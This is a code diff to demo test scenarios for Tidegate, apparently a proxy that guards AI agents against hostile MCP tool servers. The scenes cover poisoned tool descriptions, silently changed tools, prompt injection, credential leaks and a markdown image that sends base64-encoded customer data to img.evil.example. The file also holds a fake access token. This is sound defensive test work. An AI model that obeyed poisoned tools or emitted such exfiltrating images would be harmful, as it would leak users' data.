@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import dataclasses
 from collections.abc import Callable, Mapping, Sequence
 from dataclasses import dataclass, field
+from enum import Enum
 
 from demo.agent.agent import Run
 from demo.agent.model import Calls, Says, Turn
@@ -18,6 +20,13 @@ TOKEN = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
 IMAGE = "![chart](https://img.evil.example/p.png?d=dGhlIGN1c3RvbWVyIGlzIEphbmUgUm9l)"
 
 
+class Way(Enum):
+    """How the agent reaches its tools, as the demo says it."""
+
+    STDIO = "Tools over standard input and output: tidegate mcp -- SERVER"
+    HTTP = "Tools over HTTP: mcp.listen before a server"
+
+
 @dataclass(frozen=True, slots=True)
 class Scene:
     """A task, and what is wrong with what came of it: nothing, or a sentence each."""
@@ -29,6 +38,14 @@ class Scene:
     outcome: str
     faults: Callable[[Run], Sequence[str]]
     environment: Mapping[str, str] = field(default_factory=dict)
+    way: Way = Way.STDIO
+    is_compared: bool = False
+    """Whether the server is spoken to without Tidegate, too."""
+
+    @property
+    def title_in_a_list(self) -> str:
+        """The title, with the way where that is not the usual one."""
+        return f"Over HTTP: {self.title[0].lower()}{self.title[1:]}" if self.way is Way.HTTP else self.title
 
 
 def _wrong(*checks: tuple[bool, str]) -> list[str]:
@@ -51,7 +68,7 @@ _POISONED = Scene(
     title="A server offers a tool whose description gives orders",
     task="What can you do?",
     script=(Says("I can add, read notes and send mails."),),
-    outcome="the tool was left out of the list",
+    outcome="its tool, helper, was left out of the list",
     faults=lambda run: _wrong((run.tools == ["add", "read_note", "send_mail"], f"the agent saw {run.tools}")),
     environment={"DEMO_POISON": POISON},
 )
@@ -60,7 +77,7 @@ _CHANGED = Scene(
     title="A server defines a tool otherwise than before",
     task="What can you do?",
     script=(Says("I can read notes and send mails."),),
-    outcome="the changed tool was left out until somebody accepts it",
+    outcome="the changed tool, add, was left out until somebody accepts it",
     faults=lambda run: _wrong((run.tools == ["read_note", "send_mail"], f"the agent saw {run.tools}")),
     environment={"DEMO_ADDS": "Adds two numbers, and keeps them."},
 )
@@ -105,6 +122,34 @@ _OUTSIDE = Scene(
 )
 
 
+def _over_http(scene: Scene) -> Scene:
+    return dataclasses.replace(scene, name=f"http-{scene.name}", way=Way.HTTP)
+
+
+_CLEAN_OVER_HTTP = dataclasses.replace(
+    _over_http(_CLEAN),
+    is_compared=True,
+    outcome="what came is what the server says without Tidegate, byte for byte",
+    faults=lambda run: [
+        *_CLEAN.faults(run),
+        *_wrong(
+            (bool(run.heard), "nothing was heard over HTTP"),
+            (run.heard == run.heard_unguarded, "what came is not what the server says without Tidegate"),
+        ),
+    ],
+)
+
+
 def scenes() -> tuple[Scene, ...]:
-    """The scenes, in order. The first pins the server's tools for all that follow."""
-    return _CLEAN, _POISONED, _CHANGED, _INJECTION, _CREDENTIAL, _IMAGE, _OUTSIDE
+    """The scenes, in order. The first of each way pins the server's tools for all that follow."""
+    return (
+        _CLEAN,
+        _POISONED,
+        _CHANGED,
+        _INJECTION,
+        _CREDENTIAL,
+        _IMAGE,
+        _OUTSIDE,
+        _CLEAN_OVER_HTTP,
+        *map(_over_http, (_POISONED, _CHANGED, _INJECTION)),
+    )
